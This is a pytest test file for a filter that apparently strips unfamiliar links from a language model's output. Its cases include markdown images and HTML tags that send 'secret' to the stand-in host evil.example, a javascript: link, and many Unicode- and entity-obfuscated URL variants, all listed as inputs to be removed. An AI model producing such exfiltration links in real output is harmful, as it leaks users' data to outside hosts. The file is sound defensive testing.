"""Addresses in texts of a language model."""
# ruff: noqa: RUF001 - characters that look like others are what is tested

import time

import pytest

from corpuses.llm.addresses import settled_length, without_addresses

WORDS = "Write to WWW.Acme.example, ada@acme.example or https://acme.example/terms. See //cdn.acme.example/a.png"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("See www.acme.example.", "See www.acme.example."),
        ("See HTTPS://ACME.example/terms, please", "See HTTPS://ACME.example/terms, please"),
        ("[the terms](https://acme.example/terms)", "[the terms](https://acme.example/terms)"),
        ("Write to Ada@acme.example.", "Write to Ada@acme.example."),
        ("![a](//cdn.acme.example/a.png)", "![a](//cdn.acme.example/a.png)"),
        ("See https://acme.example/terms?rent=1200", "See (address removed)"),
        ("See https://acme.exam", "See (address removed)"),  # another host
        ("See https://evil.example/?rent=1200", "See (address removed)"),
        ("See https://evil.example/?rent=1200.", "See (address removed)."),
        ("xhttps://evil.example", "(address removed)"),
        ("[here](javascript:alert(1))", "[here]((address removed)))"),
        ("“https://evil.example/?a=1”, he said", "“(address removed)”, he said"),
    ],
)
def test_addresses_that_the_document_does_not_contain_are_removed(text, kept):
    assert without_addresses(text, WORDS) == kept


@pytest.mark.parametrize(
    "text",
    [
        "//evil.example/?d=secret",
        "![p](//evil.example/?d=secret)",
        "![p]( <//evil.example/?d=secret> )",
        "![p](evil.example?d=secret)",
        "[p]: foo:secret",
        "[p](foo:secret)",
        "[p](foo.evil)",
        "<foo:secret>",
        "<img src=//evil.example/secret>",
        "<img src = '/\n/3232235777/?d=secret'>",
        "<a href=secret>",
        "<p style='background: url(secret)'>",
        "evil.example/?d=secret",
        "evil.example/secret",
        "Evil.Example?secret",
        "evil.example#secret",
        "evil.example./secret",
        "evil.example:8080/secret",
        "See…evil.example/secret",
        "evil.xn--mgbaam7a8h/secret",
        "bücher.example/secret",
        "evil。example/secret",
        "evil．example／secret",
        "127.0.0.1:8000/secret",
        "192.0.2.1/secret",
        "localhost:8000/secret",
        "\\\\evil.example\\secret",
        "/\\evil.example/secret",
        "https:evil/secret",
        "https:\\\\evil\\secret",
        "mailto:eve@evil.example?body=secret",
        "eve+secret@evil.example",
        "tel:+49-secret",
        "sms:1?body=secret",
        "ws://evil/secret",
        "wss://evil/secret",
        "file://evil/secret",
        "intent://secret",
        "gopher://secret",
        "x-callback:open?d=secret",
        "magnet:secret",
        "data:text/html,secret",
        "ｈｔｔｐｓ：／／evil.example/secret",
        "ｈｔｔｐｓ://evil.example/secret",
        "h\u200bttps://evil.example/secret",
        "https:/\u2060/evil/secret",
        "ht\u00adtps:\ufe0f//evil/secret",
        "java\x01script:secret",
        "𝐡𝐭𝐭𝐩𝐬://evil/secret",
        "www\u200d.evil.example",
        "&#104;ttps&colon;&sol;&sol;evil/secret",
        "java&Tab;script&#58secret",
        "https\\:\\/\\/evil/secret",
        "www\\.evil.example",
        "//evil.example/?d=a,b;c",
        "请访问 //evil.example/secret",
    ],
)
def test_whatever_looks_like_a_link_is_removed(text):
    shown = without_addresses(f"Look at {text} now", WORDS)
    assert "(address removed)" in shown
    assert not ("evil" in shown and "secret" in shown), shown
    assert not list(filter(None, (word for word in ("://", "//evil", "javascript") if word in shown))), shown
    assert shown.startswith("Look at ") or "请" in shown
    assert shown.endswith(" now")


@pytest.mark.parametrize(
    "text",
    [
        "The tenant and/or the guarantor pays, e.g. by transfer (i.e. by bank), at 12:30.",
        "§ 3.2 and Section 4.1(a), Art. 5(1)(b), No. 7/2024: see clause 1.5/2, 3.1:2 and 4.1a/b.",
        "Note: payment. Re: Lease. Tel: 030 123456. Data: none. Note:payment is due; Art.Nr:12345, CC:BY.",
        "Dates are 01.02.2026, 2026-02-01, 1/2/2026, 2026-02-01T12:30:00+01:00 and 12:30:45.",
        "Files such as lease.pdf, lease.pdf/annex.docx, C.txt? and final.v2.docx#draft? remain.",
        "The U.S. and the U.K./U.S. treaty, z.B./d.h., Dr.Smith, Mr.Jones, St.John.",
        "EUR 1.200,50/month, $1,200.00/mo, 5.5%/year, US$1.5m; 10.0.0.0/8",
        "Is it due?Yes. Was it paid?) Which file: lease.pdf? (Or lease.pdf?)",
        "By: /s/ John Smith; By:/s/ Ada. He/she; w/o; c/o Acme; n/a; 24/7; km/h; A/C",
        "[1](a), [sic](iii) and [Date]: 01/02/2026 [Landlord]: Dr.Smith",
        "½ of ５００, № 7, Straße; “quoted”: ‘words’… wait…what/ever",
        '{"rent": 1200, "due": "12:30", "paid": null} rent=1200 data = 5',
        "AT&T, R&D &c; a < b and c > d, x <b and c; 租金是1200。请见/付款。Preis:1200",
        "C:\\ is a drive; std::vector; 1:1; a // b; @grace and @ada.l",
        "بند ۳٫۲: الإيجار/الدفع Дом.Адрес 3.2",
    ],
)
def test_prose_stays_as_it_is(text):
    assert without_addresses(text, "") == text


@pytest.mark.parametrize(
    "piece",
    [
        "a", "a.", "a:", "/", "\\", "a@", "](", "]:", "](a", "<", "<a ", "src=", "url(", "a-", "a.bb", "a:a?", "?",
        "1.", "xn--", "www.", "&", "&a", "&#", "&#1", "\u200b", "ｈ", "。", "a。", "https:", "=", " ", "a.bb/ ",
        "\n<a ",
    ],
)  # fmt: skip
def test_hostile_texts_take_time_in_proportion_to_their_length(piece):
    text = piece * (100_000 // len(piece))
    begin = time.process_time()
    without_addresses(text, text)
    settled_length(text)
    assert time.process_time() - begin < 5


def test_many_addresses_are_compared_with_long_documents_in_bounded_time():
    text = " ".join(f"https://evil.example/{number}" for number in range(5_000))
    begin = time.process_time()
    shown = without_addresses(text, "The rent is due at https://acme.example/. " * 50_000)
    assert time.process_time() - begin < 5
    assert "evil" not in shown


@pytest.mark.parametrize(
    ("text", "settled"),
    [
        ("The rent is", "The rent "),
        ("The rent is ", "The rent is "),
        ("Rent", ""),
        ("See https://evil", "See "),
        ("See [this]( ", "See "),
        ("See <img alt='a b' ", "See "),
        ("a src = ", "a src "),
        ("a < b ", "a < b "),
        ("见evil。com", ""),
        ("租金是多少。请", "租金是多少。"),
    ],
)
def test_words_are_settled_when_they_are_complete(text, settled):
    assert text[: settled_length(text)] == settled
